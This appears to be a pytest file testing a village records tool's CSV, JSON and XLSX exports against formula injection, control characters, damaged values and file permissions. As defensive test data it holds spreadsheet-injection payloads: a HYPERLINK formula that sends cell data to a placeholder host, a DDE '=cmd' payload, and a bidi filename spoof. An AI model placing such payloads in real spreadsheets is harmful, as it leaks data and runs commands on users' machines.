"""Exports: resident text never becomes a formula, and no stored value stops an export."""
import csv
import io
import json
import os
import re
import sqlite3
import zipfile

import pytest
from openpyxl import load_workbook
from transfer_helpers import init_village, write_csv

# What must never reach a spreadsheet cell: characters XML cannot hold, C1 controls, bidi controls.
UNSHOWABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
XLSX_CELL = 32767  # Excel's limit per cell, in UTF-16 code units

LEAK = '=HYPERLINK("http://x/?leak="&E2&F2,"Details")'
FORMULAS = [LEAK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1+1", "''+1"]


@pytest.fixture
def village(runner):
    return init_village(runner)


def kiosk_grievances(village, tmp_path, descriptions):
    """Store grievances as the kiosk would (through the validator), one per description."""
    rows = [[f"G{n}", "road", text] for n, text in enumerate(descriptions)]
    result = village("import", "grievances", write_csv(tmp_path / "g.csv", ["ticket", "category", "description"], rows))
    assert result.exit_code == 0, result.output


def stored(village, sql, params=()):
    """Write straight into the database, as an older version or a damaged peer could have."""
    db = sqlite3.connect(f"{village.data_dir}/village.db")
    db.execute(sql, params)
    db.commit()
    db.close()


def xlsx_rows(path):
    return list(load_workbook(path).active.iter_rows())


def test_xlsx_writes_resident_text_as_text_cells_never_formulas(village, tmp_path):
    kiosk_grievances(village, tmp_path, FORMULAS[:5])
    out = tmp_path / "g.xlsx"
    assert village("export", "grievances", "--format", "xlsx", "--out", str(out)).exit_code == 0
    header, *rows = xlsx_rows(out)
    column = [c.value for c in header].index("description")
    assert [row[column].value for row in rows] == FORMULAS[:5]
    for row in rows:
        cell = row[column]
        assert cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(out) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_puts_an_apostrophe_before_formula_led_text(village, tmp_path, text):
    village("import", "households", write_csv(tmp_path / "h.csv", ["code", "head_name"], [["H1", "甲"]]))
    stored(village, "UPDATE households SET notes = ?", [text])
    exported = list(csv.DictReader(io.StringIO(village("export", "households").stdout, newline="")))
    assert exported[0]["notes"] == "'" + text


def test_csv_keeps_numbers_as_numbers(village, tmp_path):
    village("import", "households", write_csv(tmp_path / "h.csv", ["id", "code", "head_name"], [["h-1", "H1", "甲"]]))
    plots = write_csv(tmp_path / "p.csv", ["household_id", "name", "area_mu", "land_type", "lat", "lon"],
                      [["h-1", "-east field", "1.5", "dry", "-33.25", "-70.5"]])
    assert village("import", "plots", plots).exit_code == 0
    exported = list(csv.DictReader(io.StringIO(village("export", "plots").stdout, newline="")))[0]
    assert (exported["lat"], exported["lon"], exported["area_mu"]) == ("-33.25", "-70.5", "1.5")
    assert exported["name"] == "'-east field"


def test_a_csv_export_imports_back_exactly(village, tmp_path):
    kiosk_grievances(village, tmp_path, [*FORMULAS[:5], "'=1+1", "'hello", "''", "-"])
    before = json.loads(village("export", "grievances", "--format", "json").stdout)
    out = tmp_path / "g.csv"
    assert village("export", "grievances", "--out", str(out)).exit_code == 0
    assert village("import", "grievances", str(out)).exit_code == 0
    after = json.loads(village("export", "grievances", "--format", "json").stdout)
    assert [(r["id"], r["description"]) for r in after] == [(r["id"], r["description"]) for r in before]
    assert before[0]["description"] == LEAK and len(after) == 9


NASTY = {
    "nul": "a\x00b",
    "escape": "\x1b[31mred\x1b[0m",
    "c1 and del": "x\x7f\x85\x9fy",
    "bidi override": "\u202egpj.exe",
    "bidi isolate": "\u2066x\u2069",
    "formula after nul": "\x00=1+1",
    "emoji": "🌾🐖" * 10,
    "megabyte": "长" * 1_000_000,
    "astral over the excel limit": "🌾" * 20_000,
}


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize("name", NASTY)
def test_no_stored_text_stops_an_export(village, tmp_path, fmt, name):
    village("import", "households", write_csv(tmp_path / "h.csv", ["code", "head_name"], [["H1", "甲"]]))
    stored(village, "UPDATE households SET notes = ?, head_name = ?", [NASTY[name], NASTY[name]])
    out = tmp_path / f"h.{fmt}"
    result = village("export", "households", "--format", fmt, "--out", str(out))
    assert result.exit_code == 0, result.output
    if fmt == "json":
        assert json.loads(out.read_text("utf-8"))[0]["notes"] == NASTY[name]
    elif fmt == "csv":
        limit = csv.field_size_limit(1 << 24)  # the megabyte cell is exported whole
        try:
            notes = next(csv.DictReader(out.open(encoding="utf-8", newline="")))["notes"]
        finally:
            csv.field_size_limit(limit)
        assert not UNSHOWABLE.search(notes) and notes.lstrip("'")[:1] not in ("=", "+", "-", "@", "\t", "\r")
    else:
        cell = xlsx_rows(out)[1][9]
        assert cell.data_type == "s" and not UNSHOWABLE.search(cell.value)
        assert len(cell.value.encode("utf-16-le")) // 2 <= XLSX_CELL


def test_a_text_too_long_for_excel_says_it_was_cut(village, tmp_path):
    village("import", "households", write_csv(tmp_path / "h.csv", ["code", "head_name"], [["H1", "甲"]]))
    stored(village, "UPDATE households SET notes = ?", ["长" * 40_000])
    out = tmp_path / "h.xlsx"
    assert village("export", "households", "--format", "xlsx", "--out", str(out)).exit_code == 0
    notes = xlsx_rows(out)[1][9].value
    assert notes.startswith("长" * 30_000) and "more characters: the JSON export holds the whole text" in notes


DAMAGED = {
    # JSON that does not parse (a pushed history `{broken`), bytes that are not UTF-8, a blob, infinity.
    "broken json": ("responses", "'{broken'", "{broken"),
    "not utf-8": ("location", "CAST(x'ff41fe' AS TEXT)", "\ufffdA\ufffd"),
    "blob": ("reporter", "x'41ff'", "A\ufffd"),
    "infinity in a number column": ("members", "9e999", "inf"),
}


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize("name", DAMAGED)
def test_damaged_stored_values_are_exported_as_they_are(village, tmp_path, fmt, name):
    field, sql, expected = DAMAGED[name]
    table = "households" if field == "members" else "grievances"
    if table == "households":
        village("import", "households", write_csv(tmp_path / "h.csv", ["code", "head_name"], [["H1", "甲"]]))
    else:
        kiosk_grievances(village, tmp_path, ["road broken"])
    stored(village, f"UPDATE {table} SET {field} = {sql}")
    out = tmp_path / f"g.{fmt}"
    result = village("export", table, "--format", fmt, "--out", str(out))
    assert result.exit_code == 0, result.output
    if fmt == "json":
        assert json.loads(out.read_text("utf-8"))[0][field] == expected
    elif fmt == "xlsx":
        header, row = xlsx_rows(out)
        assert row[[c.value for c in header].index(field)].value == expected


def test_conflicts_export_neutralises_kept_and_lost_values(village, tmp_path):
    stored(village, "INSERT INTO _conflicts (tbl, row_id, field, kept_value, kept_version, lost_value, lost_version, "
                    "recorded_at) VALUES ('households', 'h-1', 'notes', ?, 'v1', ?, 'v2', '2024-01-01')",
           [json.dumps(LEAK), "=cmd|' /C calc'!A0"])
    rows = list(csv.DictReader(io.StringIO(village("export", "conflicts").stdout, newline="")))
    assert rows[0]["lost_value"] == "'=cmd|' /C calc'!A0" and rows[0]["kept_value"] == json.dumps(LEAK)


def test_export_into_a_missing_folder_says_so(village, tmp_path):
    result = village("export", "households", "--out", str(tmp_path / "nowhere" / "h.csv"))
    assert result.exit_code == 1 and "does not exist" in result.stderr and str(tmp_path / "nowhere") in result.stderr
    assert not (tmp_path / "nowhere").exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_full_disk_gives_a_clear_message(village, fmt):
    result = village("export", "households", "--format", fmt, "--out", "/dev/full")
    assert result.exit_code == 1 and "Cannot write /dev/full: No space left on device." in result.stderr


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_an_export_file_is_private_and_replaced_whole(village, tmp_path, fmt):
    out = tmp_path / "out" / f"h.{fmt}"
    out.parent.mkdir()
    out.write_text("old")
    os.chmod(out, 0o644)
    assert village("export", "households", "--format", fmt, "--out", str(out)).exit_code == 0
    assert os.stat(out).st_mode & 0o777 == 0o600 and out.read_bytes() != b"old"
    assert os.listdir(out.parent) == [out.name]
